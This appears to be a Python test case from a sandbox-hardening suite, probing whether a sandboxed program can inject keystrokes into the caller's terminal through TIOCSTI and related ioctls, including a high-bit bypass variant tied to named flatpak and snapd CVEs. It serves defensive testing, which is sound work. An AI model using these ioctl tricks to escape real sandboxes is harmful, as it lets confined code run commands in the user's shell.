"""C12 (CVE-2017-5226, flatpak CVE-2023-28100, snapd CVE-2023-1523, CVE-2019-7303 and CVE-2019-10063)"""

import fcntl
import os
import pathlib
import pty
import termios

from adversarial.case import NO_FILTER, Case, main

LEGACY_TIOCSTI = pathlib.Path("/proc/sys/dev/tty/legacy_tiocsti")


class C12(Case):
    """Input is pushed into the caller's terminal, by each ioctl and by ones with high bits set; or /dev/tty is opened."""

    control = NO_FILTER
    # A kernel may refuse it by itself (Linux 6.2, dev.tty.legacy_tiocsti).
    control_opens = {"own terminal: TIOCSTI"} if not LEGACY_TIOCSTI.exists() or \
        LEGACY_TIOCSTI.read_text().strip() == "1" else {"own terminal: TIOCSETD"}

    def prepare(self):
        self.master, self.slave = pty.openpty()
        self.addCleanup(os.close, self.master)
        self.addCleanup(os.close, self.slave)

    def program(self):
        return """
            import ctypes, fcntl, termios
            IOCTL = 16 if os.uname().machine == "x86_64" else 29
            REQUESTS = {"TIOCSTI": 0x5412, "TIOCLINUX": 0x541C, "TIOCSETD": 0x5423, "TIOCCONS": 0x541D}
            def push(fd, name, more=0):
                argument = ctypes.create_string_buffer(b"\\0" if name == "TIOCSETD" else b"x", 16)
                return syscall(IOCTL, fd, REQUESTS[name] + more, ctypes.byref(argument))
            def tried(fd, who):
                doors = {f"{who}: {name}": push(fd, name) for name in REQUESTS}
                return {**doors, f"{who}: TIOCSTI + 2^32": push(fd, "TIOCSTI", 1 << 32)}
            def own():
                os.setsid()
                master, slave = os.openpty()
                fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                return tried(slave, "own terminal")
            say({**tried(0, "the caller's"), **in_child(own), "/dev/tty": probe_open("/dev/tty", os.O_RDWR),
                 "make it the controlling one": attempt(fcntl.ioctl, 0, termios.TIOCSCTTY, 0)})
        """

    def attack(self, changes, **more):
        return super().attack(changes, stdin=self.slave, **more)

    def under_bubblewrap(self, way, **more):
        def lead():
            os.setsid()
            fcntl.ioctl(self.slave, termios.TIOCSCTTY, 0)
        return super().under_bubblewrap(way, stdin=self.slave, preexec_fn=lead)


if __name__ == "__main__":
    main()
